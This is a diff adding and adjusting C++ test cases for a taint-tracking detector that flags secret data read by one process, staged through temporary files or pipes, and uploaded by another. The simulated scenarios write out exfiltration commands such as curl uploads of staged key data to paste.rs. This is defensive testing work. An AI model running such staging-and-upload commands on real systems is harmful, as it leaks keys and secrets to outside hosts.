@@ -61,6 +61,7 @@ TEST_CASE("a staging chain of four hops through /dev/shm and /tmp, uploaded two 
     auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
     tl.open_write(cat, "/dev/shm/.a", 801);
     tl.read(cat, key, 2600);
+    tl.wrote(cat, "/dev/shm/.a", 801);
     tl.exit(cat);
     const char* paths[] = {"/dev/shm/.a", "/tmp/.b", "/var/tmp/.c", "/dev/shm/.d"};
     for (int i = 0; i < 3; ++i) {
@@ -90,6 +91,7 @@ TEST_CASE("a file rewritten with O_TRUNC by an untainted writer no longer holds 
     auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
     tl.open_write(cat, "/tmp/stage", 901);
     tl.read(cat, key, 2600);
+    tl.wrote(cat, "/tmp/stage", 901);
     tl.exit(cat);
     auto gen = tl.spawn(tl.shell, {"head", "-c", "4000", "/dev/urandom"}, {}, 0, 0, 0, StdoutKind::file);
     tl.open_write(gen, "/tmp/stage", 901);
@@ -315,6 +317,7 @@ TEST_CASE("evicting tainted state is counted and reported as a blind spot")
         auto p = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
         tl.open_write(p, "/tmp/s" + std::to_string(i), 20000 + i);
         tl.read(p, key, 2600);
+        tl.wrote(p, "/tmp/s" + std::to_string(i), 20000 + i);
     }
     tl.step(2000);
     tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});  // lets the engine run its expiry
@@ -374,8 +377,8 @@ TEST_CASE("bounded cost: the work of one pipeline does not grow with the tables"
         for (int i = 0; i < background; ++i) {
             auto p = ref(100000 + i, "cat", 0, 500000 + i);
             l.on_exec(p, ++t);
-            l.on_write(p, ++t, "/tmp/f" + std::to_string(i), 2049, 700000 + i, true);
             l.on_read(p, ++t, key, 2049, 1, 2600);
+            l.on_write(p, ++t, "/tmp/f" + std::to_string(i), 2049, 700000 + i, true);
         }
         auto before = l.stats().work;
         auto cat = ref(1, "cat", 0, 42);
@@ -410,6 +413,7 @@ TEST_CASE("a parent writes the stdin pipe of a child it spawned: tar czf runs gz
     tl.feed(ExecEvent{tl.t, gz});
     tl.step();
     tl.read(tar, key, 2600);
+    tl.wrote(gz, "/tmp/d.tgz", 5501);  // gzip writes what reached it after it did
     tl.exit(gz);
     tl.exit(tar);
     auto curl =
@@ -453,4 +457,102 @@ TEST_CASE("caps hold when many objects appear at the same instant")
     CHECK(l.stats().staged_files <= 16);
     CHECK(l.stats().evicted_taint > 0);
     CHECK_FALSE(l.take_blind_spots().empty());
+}
+
+TEST_CASE("order within a process: only what a holder wrote once it held the data holds it")
+{
+    // `stage`: how the script treats /tmp/report.txt around its key read.
+    enum class Stage : std::uint8_t { written_before, open_before_written_after, opened_after };
+    auto run = [](Stage stage) {
+        Timeline tl;
+        constexpr std::uint64_t ino = 5300;
+        auto py = tl.spawn(tl.shell, {"python3", "job.py"}, "/usr/bin/python3.11", 0, 0, 0, StdoutKind::other);
+        if (stage != Stage::opened_after) tl.open_write(py, "/tmp/report.txt", ino);
+        if (stage == Stage::written_before) tl.wrote(py, "/tmp/report.txt", ino);
+        const auto wrote_at = tl.t - 1'000'000;
+        tl.step(2000);
+        tl.read(py, key, 2600);
+        if (stage == Stage::open_before_written_after) tl.wrote(py, "/tmp/report.txt", ino);
+        if (stage == Stage::opened_after) tl.open_write(py, "/tmp/report.txt", ino);
+        tl.step(2000);
+        // Its exit summary repeats the kernel's last write time (the write before the read).
+        FileSummaryEvent last{tl.t, py,   "/tmp/report.txt",
+                              ino,  2049, 0,
+                              0,    true, stage == Stage::written_before ? wrote_at : tl.t - 1'000'000};
+        tl.feed(last);
+        tl.exit(py);
+        // Another process, not forked from it, uploads the file.
+        auto curl = tl.start_session({"curl", "-sk", "-T", "/tmp/report.txt", "https://paste.rs/"});
+        tl.read(curl, "/tmp/report.txt", 2700, ino);
+        tl.transfer(curl, "paste.rs", 1300 + 2700, 400);
+        return tl.alerts;
+    };
+    CHECK(run(Stage::written_before).empty());  // alerted before: the later read tainted the earlier write
+    auto after = run(Stage::open_before_written_after);
+    REQUIRE_FALSE(after.empty());
+    CHECK(after[0].reason.find("staged in /tmp/report.txt") != std::string::npos);
+    CHECK_FALSE(run(Stage::opened_after).empty());
+}
+
+TEST_CASE("order within a process: an upload read before the late write still alerts when it comes")
+{
+    // The writer keeps the file open; the uploader reads it before the summary saying it was
+    // written after the key read arrives (a periodic summary): the taint reaches it then.
+    Timeline tl;
+    constexpr std::uint64_t ino = 5400;
+    auto py = tl.spawn(tl.shell, {"python3", "job.py"}, "/usr/bin/python3.11", 0, 0, 0, StdoutKind::other);
+    tl.open_write(py, "/tmp/out.bin", ino);
+    tl.step(2000);
+    tl.read(py, key, 2600);
+    auto curl = tl.start_session({"curl", "-sk", "-T", "/tmp/out.bin", "https://paste.rs/"});
+    tl.read(curl, "/tmp/out.bin", 2700, ino);
+    tl.transfer(curl, "paste.rs", 1300 + 2700, 400);
+    CHECK(silent(tl));
+    tl.wrote(py, "/tmp/out.bin", ino);
+    CHECK_FALSE(silent(tl));
+}
+
+TEST_CASE("order within a process: a pipe written before the read, and after it")
+{
+    auto run = [](bool again_after, TimeNs gap_ms) {
+        Timeline tl;
+        auto py = tl.spawn(tl.shell, {"python3", "job.py"}, "/usr/bin/python3.11", 0, 0, 6100);
+        auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"}, {}, 0, 6100, 0,
+                             StdoutKind::other);
+        tl.object_io(py, ObjectKind::pipe, 6100, IoDirection::write, 120);  // "starting..."
+        tl.object_io(curl, ObjectKind::pipe, 6100, IoDirection::read, 120);
+        tl.step(gap_ms);
+        tl.read(py, key, 2600);
+        if (again_after) {
+            tl.object_io(py, ObjectKind::pipe, 6100, IoDirection::write, 120 + 2600);
+            tl.object_io(curl, ObjectKind::pipe, 6100, IoDirection::read, 120 + 2600);
+        }
+        tl.transfer(curl, "paste.rs", 1300 + 2720, 400);
+        return tl.alerts;
+    };
+    CHECK(run(false, 3000).empty());
+    CHECK_FALSE(run(true, 3000).empty());
+    // Within a second of a count record, writes are not reported yet: taken as written.
+    CHECK_FALSE(run(false, 200).empty());
+}
+
+TEST_CASE("order within a process: a child writing a file its shell opened ({ cat key; } > out)")
+{
+    auto run = [](bool child_writes) {
+        Timeline tl;
+        constexpr std::uint64_t ino = 5500;
+        auto sub = tl.fork(tl.shell);
+        tl.open_write(sub, "/tmp/out", ino);
+        auto cat = tl.spawn(sub, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
+        tl.step(2000);
+        tl.read(cat, key, 2600);
+        if (child_writes) tl.wrote(cat, "/tmp/out", ino);  // the kernel's first write through the inherited fd
+        tl.exit(cat);
+        auto curl = tl.start_session({"curl", "-sk", "-T", "/tmp/out", "https://paste.rs/"});
+        tl.read(curl, "/tmp/out", 2600, ino);
+        tl.transfer(curl, "paste.rs", 1300 + 2600, 400);
+        return tl.alerts;
+    };
+    CHECK_FALSE(run(true).empty());
+    CHECK(run(false).empty());
 }
